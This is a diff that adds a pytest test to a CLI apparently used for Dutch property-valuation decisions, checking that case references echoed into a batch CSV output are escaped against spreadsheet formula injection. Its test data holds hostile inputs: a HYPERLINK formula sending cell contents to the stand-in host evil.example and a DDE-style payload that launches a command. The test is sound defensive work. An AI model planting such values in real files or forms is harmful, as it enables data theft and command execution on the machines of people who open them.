@@ -293,6 +293,31 @@ def test_batch_reports_bad_rows_by_line_and_rerunning_is_safe(runner, session, w
     assert len(session.exec(select(DecisionReceipt)).all()) == 2
 
 
+def test_batch_output_never_turns_a_case_ref_into_a_spreadsheet_formula(runner, woz, tmp_path):
+    """A case_ref is echoed into the output a clerk opens in a spreadsheet: it shows as text, never runs."""
+    import csv
+
+    refs = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+31 20 123", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(A1:A9)", "\t=1+1", "WOZ-2024-7"]  # the tab is trimmed on reading
+    cases = tmp_path / "cases.csv"
+    with cases.open("w", newline="", encoding="utf-8") as target:
+        writer = csv.DictWriter(target, fieldnames=[*WOZ_CASE, "case_ref"])
+        writer.writeheader()
+        writer.writerows(dict(WOZ_CASE, case_ref=ref) for ref in refs)
+        writer.writerow(dict(WOZ_CASE, woonoppervlak="nul", case_ref="=1+1"))  # a refused row echoes it too
+    out = tmp_path / "out.csv"
+    result = runner.invoke(args=["decisions", "batch", "--algorithm", woz.code, str(cases), str(out)])
+    assert result.exit_code == 1, result.output
+    with out.open(newline="", encoding="utf-8") as source:
+        written = {row["line"]: row for row in csv.DictReader(source)}
+    echoed = [written[str(line)]["case_ref"] for line in range(2, 9)]
+    assert echoed[:5] == ["'" + ref.strip() for ref in [*refs[:4], "=1+1"]]
+    assert echoed[5] == "WOZ-2024-7" and echoed[6] == "'=1+1"
+    assert written["8"]["url"] == "" and written["8"]["error"]
+    for row in written.values():
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
+
+
 def test_models_register_command_refuses_a_joblib_file(runner, woz, tmp_path):
     fake = tmp_path / "model.joblib"
     fake.write_bytes(b"\x80\x04not really")
